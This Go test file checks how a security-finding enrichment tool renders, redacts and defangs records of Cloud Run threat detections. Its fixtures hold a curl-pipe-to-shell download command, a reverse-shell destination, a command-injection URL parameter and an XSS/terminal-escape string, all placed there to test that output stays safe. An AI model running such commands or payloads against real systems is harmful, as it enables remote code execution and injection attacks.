package record

import (
	"bytes"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/assess"
	"github.com/scc-enricher/scc-enricher/pkg/command"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/incident"
	"github.com/scc-enricher/scc-enricher/pkg/redact"
)

var event = time.Date(2026, 11, 22, 10, 0, 0, 123456789, time.UTC)

const (
	canary = "hunter2Canary"
	digest = "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
)

func newRedactor(t testing.TB) *redact.Redactor {
	t.Helper()
	r, err := redact.New()
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// fullInput is an enrichment with something in every part of it.
func fullInput() Input {
	uid := int64(0)
	java := finding.Process{Name: "java", PID: 1, Args: []string{"java", "-jar", "app.jar"}, Binary: &finding.File{Path: "/usr/bin/java"}}
	shell := finding.Process{
		Name: "sh", PID: 17, ParentPID: 1, UserID: &uid, EnvNames: []string{"DB_PASSWORD", "PATH"},
		Args:   []string{"sh", "-c", "curl -s http://203.0.113.9/x.sh | sh; mysql -p" + canary + " -h db"},
		Binary: &finding.File{Path: "/bin/sh", SHA256: strings.TrimPrefix(digest, "sha256:"), Size: 10, HashedSize: 10},
		Script: &finding.File{Path: "/tmp/x.sh", Contents: "#!/bin/sh\nexport API_KEY=" + canary + "\n"},
	}
	f := &finding.Finding{
		Name: "organizations/1/sources/2/locations/global/findings/f1", CanonicalName: "projects/3/sources/2/locations/global/findings/f1",
		Category: "Unexpected Child Shell", Description: "A shell", Class: "THREAT", State: finding.Active, Severity: finding.High,
		Mute: "UNMUTED", ParentDisplayName: "Cloud Run Threat Detection", EventTime: event, CreateTime: event.Add(time.Second),
		ResourceName: "//run.googleapis.com/projects/shop/locations/europe-west1/services/checkout",
		Containers:   []finding.Container{{Name: "app", URI: "europe-docker.pkg.dev/shop/r/checkout:v1", ImageID: digest, CreateTime: event.Add(-time.Hour)}},
		Processes:    []finding.Process{java, shell}, Files: []finding.File{{Path: "/tmp/x.sh"}},
		Indicator:    finding.Indicator{IPs: []string{"203.0.113.9"}},
		Connections:  []finding.Connection{{DestinationIP: "203.0.113.9", DestinationPort: 443, SourceIP: "10.0.0.1", SourcePort: 5000, Protocol: "TCP"}},
		Access:       finding.Access{Principal: "a@example.com", CallerIP: "198.51.100.1", MethodName: "google.cloud.run.v2.Services.UpdateService"},
		ReverseShell: &finding.ReverseShell{DestinationIP: "203.0.113.9", DestinationPort: 4444},
		Resource:     finding.Resource{Type: "google.run.Service", Organization: "organizations/1", Folders: []string{"folders/5"}},
		Workload:     finding.Workload{Project: "shop", ProjectNumber: "3", Location: "europe-west1", Kind: finding.Service, Name: "checkout", Revision: "checkout-00042-abc"},
		Truncated:    1, Malformed: []string{"files"},
	}
	other := &finding.Finding{CanonicalName: "projects/3/sources/2/locations/global/findings/f2", Category: "Reverse Shell", Severity: finding.Critical, EventTime: event.Add(time.Minute), Mute: "MUTED"}
	entries := []evidence.LogEntry{
		{Kind: evidence.LogRequest, Time: event.Add(-2 * time.Second), InsertID: "a", Request: &evidence.Request{Method: "POST", URL: "https://checkout.example/upload?cmd=%3Bid&token=" + canary, Status: 500, RemoteIP: "198.51.100.7", UserAgent: "sqlmap/1.8", Latency: 5 * time.Second}},
		{Kind: evidence.LogApp, Time: event, InsertID: "b", Severity: "ERROR", Text: "uid=0(root) gid=0(root) groups=0(root) password=" + canary},
		{Kind: evidence.LogAudit, Time: event.Add(-time.Minute), InsertID: "c", Audit: &evidence.Audit{Method: "google.cloud.run.v2.Services.UpdateService", Principal: "dev@example.com", CallerIP: "198.51.100.8", Revision: "checkout-00042-abc", Detail: "image x"}},
	}
	logs := evidence.Logs{Entries: entries, Visible: true, Truncated: true, Scopes: []string{"projects/shop"}, Event: event, From: event.Add(-10 * time.Minute), To: event.Add(2 * time.Minute)}
	cfg := &evidence.Config{
		Resource: "projects/shop/locations/europe-west1/services/checkout", Revision: "checkout-00042-abc", RevisionSource: "finding",
		Containers: []evidence.ContainerConfig{{
			Name: "app", Image: "europe-docker.pkg.dev/shop/r/checkout:v1", Digest: digest, Command: []string{"java"}, Args: []string{"--password", canary},
			EnvNames: []string{"API_KEY"}, PlaintextSecretEnv: []string{"API_KEY"}, SecretEnv: []evidence.SecretRef{{Name: "DB", Secret: "projects/shop/secrets/db", Version: "3"}},
			SecretMounts: []evidence.SecretRef{{Name: "/secrets/x", Secret: "x"}}, Mounts: []evidence.Mount{{Volume: "v", Path: "/v"}}, Ports: []int32{8080}, Probes: []string{"http /healthz"},
		}},
		ServiceAccount: "123-compute@developer.gserviceaccount.com", DefaultServiceAccount: true, Ingress: "all", Invokers: []string{"allUsers"}, AllUsers: true,
		IAMKnown: true, ExecutionEnvironment: "gen2", Volumes: []evidence.Volume{{Name: "v", Kind: "gcs", Source: "bucket", Writable: true}},
		Partial: []string{"previous_revision"}, Creator: "dev@example.com", CreateTime: event.Add(-48 * time.Hour), RevisionCreateTime: event.Add(-time.Hour), RevisionCreator: "dev@example.com",
		URLs: []string{"https://checkout-x.run.app"}, Traffic: []evidence.Traffic{{Revision: "checkout-00042-abc", Percent: 100, Latest: true}}, MaxInstances: 10, ThreatDetection: true,
		Previous: &evidence.PreviousRevision{Name: "checkout-00041-xyz", CreateTime: event.Add(-24 * time.Hour), Image: "i", Digest: digest, Changed: []string{"image"}, Details: []string{"image changed"}},
	}
	reps := []evidence.Reputation{{
		Artifact: evidence.Artifact{Kind: "file", Value: strings.TrimPrefix(digest, "sha256:"), Role: "binary", Path: "/bin/sh"}, State: evidence.OK,
		Verdict: evidence.VerdictMalicious, Malicious: 58, Engines: 72, Label: "trojan.mirai", Names: []string{"x.elf"}, Type: "ELF", FirstSeen: event, LastAnalysis: event, AskedAt: event, URL: "https://www.virustotal.com/gui/file/e3b0",
	}, {Artifact: evidence.Artifact{Kind: "ip", Value: "203.0.113.9"}, State: evidence.Quota, Reason: "virustotal quota spent (minute)"}}
	return Input{
		Finding: f, Now: event.Add(10 * time.Second), Version: "v1.2.3",
		LogQuery: evidence.LogQuery{Workload: f.Workload, Event: event, Before: 10 * time.Minute, After: 2 * time.Minute},
		Incident: incident.Incident{ID: "inc-0123456789ab", Start: event, End: event.Add(time.Minute), Members: []incident.Member{
			{Finding: f, Strength: incident.SameContainer, Seed: true}, {Finding: other, Strength: incident.SameWorkload},
		}},
		Evidence: &evidence.Evidence{
			FindingsState: evidence.Status{State: evidence.OK, Took: 12 * time.Millisecond}, Logs: logs, LogsState: evidence.Status{State: evidence.OK, Took: time.Millisecond},
			Config: cfg, ConfigState: evidence.Status{State: evidence.Partial, Reason: "previous_revision"},
			Reputations: reps, VTState: evidence.Status{State: evidence.Quota, Reason: "virustotal quota spent (minute)", RetryAt: event.Add(time.Minute)},
		},
		Assessment: assess.Assessment{
			Verdict: assess.Malicious, Score: 95, OwnScore: 80, Priority: "p1", NextAction: assess.ContainNow, PolicyID: "default", AttackVersion: "18.1",
			Reasons: []assess.Reason{{ID: "vt_malicious", Title: "Known malware", Points: 50, Source: "virustotal", Evidence: "58 of 72 engines"}, {ID: "fresh_deploy", Title: "Fresh", Points: -10, Source: "logs", Evidence: "TOKEN=" + canary, Incident: true}},
			Reading: command.Reading{Hits: []command.Hit{{Behavior: command.DownloadAndExecute, Text: "curl | sh", Techniques: []string{"T1105"}}}, Decoded: []string{"password=" + canary}},
			Parent:  &f.Processes[0], Child: &f.Processes[1], Tactics: []string{"TA0002", "TA0011"}, Techniques: []string{"T1059.004", "T1105", "NEW_ONE"},
			Exposure: assess.Public, ConfigRisks: []string{"allusers_invoker"}, Signals: evidence.Signals(logs, f),
			Indicators: []command.Indicator{{Kind: "url", Value: "http://203.0.113.9/x.sh"}, {Kind: "hash", Value: strings.TrimPrefix(digest, "sha256:")}, {Kind: "ip", Value: "203.0.113.9"}, {Kind: "ip", Value: "203.0.113.9"}},
			Precedent:  assess.Precedent{Count: 2, Days: 2, Closed: 1, First: event.Add(-72 * time.Hour), Last: event.Add(-48 * time.Hour), Attacks: 1, LastAttack: event.Add(-99 * time.Hour), NewHost: "x.example.org", Names: []string{"f0"}},
			Unchecked:  []string{"VirusTotal: quota spent"}, Summary: "A reverse shell. Contain now.", Story: "Incident of 2: shell at 10:00, TOKEN=" + canary + " 10:01.",
			Plan: []assess.Step{{ID: "keep", Phase: "evidence", Title: "Keep the logs", Why: "They expire", Command: "gcloud logging read 'x' --project=shop", Effect: "none", Undo: "none", Permission: "logging.logEntries.list"}},
		},
	}
}

// inputs are records of several shapes, made once; nobody changes them.
var inputs = sync.OnceValue(makeInputs)

func makeInputs() map[string]Input {
	failed := fullInput()
	failed.Evidence = &evidence.Evidence{
		FindingsState: evidence.Status{State: evidence.Timeout, Reason: "no answer", Took: 8 * time.Second}, LogsState: evidence.Status{State: evidence.Error, Reason: "internal"},
		ConfigState: evidence.Status{State: evidence.Denied, Reason: "run.services.get"}, VTState: evidence.Status{State: evidence.Quota, RetryAt: event},
	}
	failed.Incident = incident.Incident{Members: []incident.Member{{Finding: failed.Finding, Seed: true}}}
	hostile := fullInput()
	evil := "\x1b[31m<script>alert(1)</script>|`=cmd|' \u202e\x00 [a](http://evil.example) @all\r\nSet: x " + strings.Repeat("é", 9000)
	hostile.Finding.Category, hostile.Finding.Description = evil, evil
	hostile.Finding.Processes[1].Args = []string{evil, evil}
	hostile.Assessment.Summary = evil
	hostile.Assessment.Plan[0].Title, hostile.Assessment.Plan[0].Command = evil, "x\n```\n"+evil
	hostile.Assessment.Reasons[0].Evidence = evil
	hostile.Evidence.Logs.Entries[1].Text = evil
	done := fullInput()
	ok := evidence.Status{State: evidence.OK}
	done.Evidence.ConfigState, done.Evidence.VTState = ok, evidence.Status{State: evidence.Disabled, Reason: "no key"}
	done.Evidence.LogsState = evidence.Status{State: evidence.Empty}
	return map[string]Input{
		"full": fullInput(), "empty": {Finding: &finding.Finding{}}, "nil": {}, "all failed": failed, "hostile": hostile, "complete": done, "large": large(),
	}
}

// large is an input with far too much of everything.
func large() Input {
	in := fullInput()
	p := in.Finding.Processes[1]
	p.Args = strings.Fields(strings.Repeat("argument ", 5_000))
	for i := range 300 {
		in.Finding.Processes = append(in.Finding.Processes, p)
		in.Finding.Files = append(in.Finding.Files, finding.File{Path: strings.Repeat("p", 5000), Contents: strings.Repeat("c ", 5000)})
		in.Incident.Members = append(in.Incident.Members, incident.Member{Finding: &finding.Finding{CanonicalName: fmt.Sprint("f", i), Category: fmt.Sprint("C", i)}})
		in.Evidence.Reputations = append(in.Evidence.Reputations, in.Evidence.Reputations[0])
		in.Assessment.Reasons = append(in.Assessment.Reasons, assess.Reason{ID: "r", Evidence: strings.Repeat("e ", 5000)})
		in.Assessment.Plan = append(in.Assessment.Plan, assess.Step{Title: "t", Command: strings.Repeat("c ", 5000)})
		in.Assessment.Indicators = append(in.Assessment.Indicators, command.Indicator{Kind: "domain", Value: fmt.Sprint(i, ".example")})
		in.Evidence.Logs.Entries = append(in.Evidence.Logs.Entries, evidence.LogEntry{Kind: evidence.LogApp, Time: event.Add(time.Duration(i) * time.Second), InsertID: fmt.Sprint(i), Severity: "ERROR", Text: strings.Repeat("t ", 4000)})
		in.Evidence.Config.Containers = append(in.Evidence.Config.Containers, in.Evidence.Config.Containers[0])
	}
	in.Assessment.Child = &in.Finding.Processes[5]
	in.Assessment.Signals = evidence.Signals(in.Evidence.Logs, nil)
	return in
}

func TestNew(t *testing.T) {
	t.Parallel()
	rec := New(fullInput(), newRedactor(t))
	type view struct {
		Version                                      int
		Time                                         string
		Status, Tree, Command, Image, Account, Logs0 string
		Deploy, Indicator, Key, Container            string
		Related, Muted                               int
		Story                                        string
		Categories                                   []Count
		Source                                       Source
		Page                                         string
	}
	got := view{
		rec.SchemaVersion, rec.Time.Format(time.RFC3339Nano), rec.Status, rec.Process.Tree, rec.Process.Command, rec.Workload.Image, rec.Workload.ServiceAccount, rec.Logs.Excerpt[0],
		rec.LastDeploy.String(), rec.Indicators[0].Value, rec.Workload.Key, rec.Workload.Container, rec.Incident.RelatedCount, rec.Incident.RelatedMuted, rec.Assessment.Story, rec.Incident.Categories, rec.Source(SourceVirusTotal), rec.Finding.CategoryPage,
	}
	want := view{
		1, "2026-11-22T10:00:10Z", Partial, "java(1) > sh(17)", `sh -c 'curl -s http://203.0.113.9/x.sh | sh; mysql -p[REDACTED] -h db'`,
		"europe-docker.pkg.dev/shop/r/checkout@" + digest, "123-compute@developer.gserviceaccount.com",
		"09:59:58.123Z POST hxxps://checkout[.]example/upload?cmd=%3Bid&token=[REDACTED] 500 from 198[.]51[.]100[.]7",
		"2026-11-22T09:59:00Z by dev@example.com revision checkout-00042-abc", "hxxp://203[.]0[.]113[.]9/x.sh", "run/shop/europe-west1/service/checkout", "app", 1, 1, "Incident of 2: shell at 10:00, TOKEN=[REDACTED] 10:01.",
		[]Count{{"Reverse Shell", 1}},
		Source{Name: SourceVirusTotal, State: "quota", Error: "virustotal quota spent (minute)", RetryAt: event.Add(time.Minute).Truncate(time.Second)},
		"https://cloud.google.com/security-command-center/docs/findings/threats/cloud-run-unexpected-child-shell",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("New (-want +got):\n%s", diff)
	}
	if len(rec.Indicators) != 3 {
		t.Errorf("indicators = %v, want each once", rec.Indicators)
	}
}

func TestStatus(t *testing.T) {
	t.Parallel()
	all := inputs()
	for name, want := range map[string]string{"full": Partial, "complete": Complete, "all failed": Partial, "empty": Partial} {
		rec := New(all[name], newRedactor(t))
		if rec.Status != want || rec.Complete() != (want == Complete) {
			t.Errorf("%s: status %q, want %q", name, rec.Status, want)
		}
	}
	rec := New(all["empty"], newRedactor(t))
	want := Source{Name: SourceLogs, State: "error", Error: "not asked"}
	if diff := cmp.Diff(want, rec.Source(SourceLogs)); diff != "" {
		t.Errorf("a source that was not asked (-want +got):\n%s", diff)
	}
}

// TestLastDeploy holds that the record names the deploy that the assessment
// counts: the later one, and no execution.
func TestLastDeploy(t *testing.T) {
	t.Parallel()
	in := fullInput()
	in.Evidence.Logs.Entries = []evidence.LogEntry{{
		Kind: evidence.LogAudit, Time: event.Add(-20 * time.Hour),
		Audit: &evidence.Audit{Method: "google.cloud.run.v2.Services.UpdateService", Principal: "carol@example.com"},
	}}
	in.Evidence.Config.RevisionCreator, in.Evidence.Config.RevisionCreateTime = "bob@example.com", event.Add(-3*time.Hour)
	want := &Deploy{Time: event.Add(-3 * time.Hour), Principal: "bob@example.com", Revision: "checkout-00042-abc", Source: SourceConfig}
	if diff := cmp.Diff(want, New(in, newRedactor(t)).LastDeploy); diff != "" {
		t.Errorf("last deploy (-want +got):\n%s", diff)
	}
	f := *in.Finding
	f.Workload.Kind = finding.Job
	in.Finding = &f
	in.Evidence.Logs.Entries[0].Audit.Method = "google.cloud.run.v2.Jobs.RunJob"
	if got := New(in, newRedactor(t)).LastDeploy; got != nil {
		t.Errorf("an execution is a deploy: %+v", got)
	}
}

// TestUncheckedOnce holds that nothing is said twice, also where two texts are
// the same only once secrets are taken out.
func TestUncheckedOnce(t *testing.T) {
	t.Parallel()
	in := fullInput()
	in.Assessment.Unchecked = []string{"logs: password=" + canary, "logs: password=" + canary + "2", "config: x"}
	if got := New(in, newRedactor(t)).Assessment.Unchecked; len(got) != 2 {
		t.Errorf("Unchecked = %q", got)
	}
}

func TestImage(t *testing.T) {
	t.Parallel()
	conf := &evidence.ContainerConfig{Image: "r.example:5000/a/b:v1", Digest: digest}
	tests := []struct {
		name string
		c    finding.Container
		conf *evidence.ContainerConfig
		want string
	}{
		{"nothing", finding.Container{}, nil, ""},
		{"tag only", finding.Container{URI: "a/b:v1"}, nil, "a/b:v1"},
		{"runtime digest", finding.Container{URI: "a/b:v1", ImageID: digest}, nil, "a/b@" + digest},
		{"runtime full id", finding.Container{ImageID: "a/b@" + digest}, nil, "a/b@" + digest},
		{"digest alone", finding.Container{ImageID: digest}, nil, digest},
		{"already by digest", finding.Container{URI: "a/b@" + digest, ImageID: digest}, nil, "a/b@" + digest},
		{"configured", finding.Container{}, conf, "r.example:5000/a/b@" + digest},
		{"same repository", finding.Container{URI: "r.example:5000/a/b:v0"}, conf, "r.example:5000/a/b@" + digest},
		{"another repository keeps its tag", finding.Container{URI: "x/y:v0"}, conf, "x/y:v0"},
	}
	for _, tc := range tests {
		if got := image(tc.c, tc.conf); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.name, got, tc.want)
		}
	}
}

var codeSpan = regexp.MustCompile("`[^\n]*`")

// prose is Markdown without its code blocks and spans.
func prose(md string) string {
	var out strings.Builder
	fence := ""
	for l := range strings.SplitSeq(md, "\n") {
		trimmed := strings.TrimSpace(l)
		switch {
		case fence != "":
			if trimmed == fence {
				fence = ""
			}
		case strings.HasPrefix(trimmed, "```"):
			fence = strings.TrimSuffix(trimmed, "sh")
		default:
			out.WriteString(codeSpan.ReplaceAllString(l, "") + "\n")
		}
	}
	return out.String()
}

// TestNothingSecretNothingHostile looks at every byte that leaves: JSON, text
// and Markdown of records of all shapes.
func TestNothingSecretNothingHostile(t *testing.T) {
	t.Parallel()
	r := newRedactor(t)
	for name, in := range inputs() {
		rec := New(in, r)
		data, err := json.Marshal(rec)
		if err != nil {
			t.Fatal(err)
		}
		if len(data) > 900_000 {
			t.Errorf("%s: the record has %d bytes", name, len(data))
		}
		var text, md bytes.Buffer
		if err := rec.Text(&text, TextOptions{Width: 80}); err != nil {
			t.Fatal(err)
		}
		if err := rec.Markdown(&md); err != nil {
			t.Fatal(err)
		}
		for form, s := range map[string]string{"json": string(data), "text": text.String(), "markdown": md.String()} {
			if strings.Contains(s, canary) {
				i := strings.Index(s, canary)
				t.Errorf("%s: %s leaks a secret: …%s", name, form, s[max(0, i-80):i])
			}
			for _, c := range s {
				if c != '\n' && (unicode.IsControl(c) || unicode.Is(unicode.Cf, c)) {
					t.Errorf("%s: %s holds %U", name, form, c)
					break
				}
			}
		}
		if s := prose(md.String()); strings.Contains(s, "<script>") || strings.Contains(s, "](http://evil") {
			t.Errorf("%s: Markdown lets HTML or links through", name)
		}
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	rec := New(fullInput(), newRedactor(t))
	var plain, colored bytes.Buffer
	if err := rec.Text(&plain, TextOptions{Width: 80}); err != nil {
		t.Fatal(err)
	}
	if err := rec.Text(&colored, TextOptions{Width: 80, Color: true}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(plain.String(), "\x1b") || !strings.Contains(colored.String(), "\x1b[1;31mMALICIOUS") {
		t.Error("colour is on without being asked for, or off")
	}
	for _, want := range []string{
		"MALICIOUS   score 95 (80 alone)   p1   contain now", "java(1) > sh(17)", "+50  virustotal  vt_malicious", "-10  logs",
		"Not checked", "quota", "inc-0123456789ab", "[evidence] Keep the logs", "gcloud logging read 'x' --project=shop", "undo:   none", "T1059.004 Unix Shell",
	} {
		if !strings.Contains(plain.String(), want) {
			t.Errorf("the text lacks %q:\n%s", want, plain.String())
		}
	}
	for l := range strings.SplitSeq(plain.String(), "\n") {
		if utf8.RuneCountInString(l) > 80 && strings.Contains(l, " - ") {
			t.Errorf("line of %d characters: %q", utf8.RuneCountInString(l), l)
		}
	}
}

func TestWrap(t *testing.T) {
	t.Parallel()
	got := wrap("the quick brown fox jumps over the lazy dog", 20)
	if diff := cmp.Diff([]string{"the quick brown fox", "jumps over the lazy", "dog"}, got); diff != "" {
		t.Errorf("wrap (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{""}, wrap("", 20)); diff != "" {
		t.Errorf("wrap of nothing (-want +got):\n%s", diff)
	}
}

func BenchmarkNew(b *testing.B) {
	r := newRedactor(b)
	in := fullInput()
	New(in, r)
	b.ReportAllocs()
	for b.Loop() {
		New(in, r)
	}
}
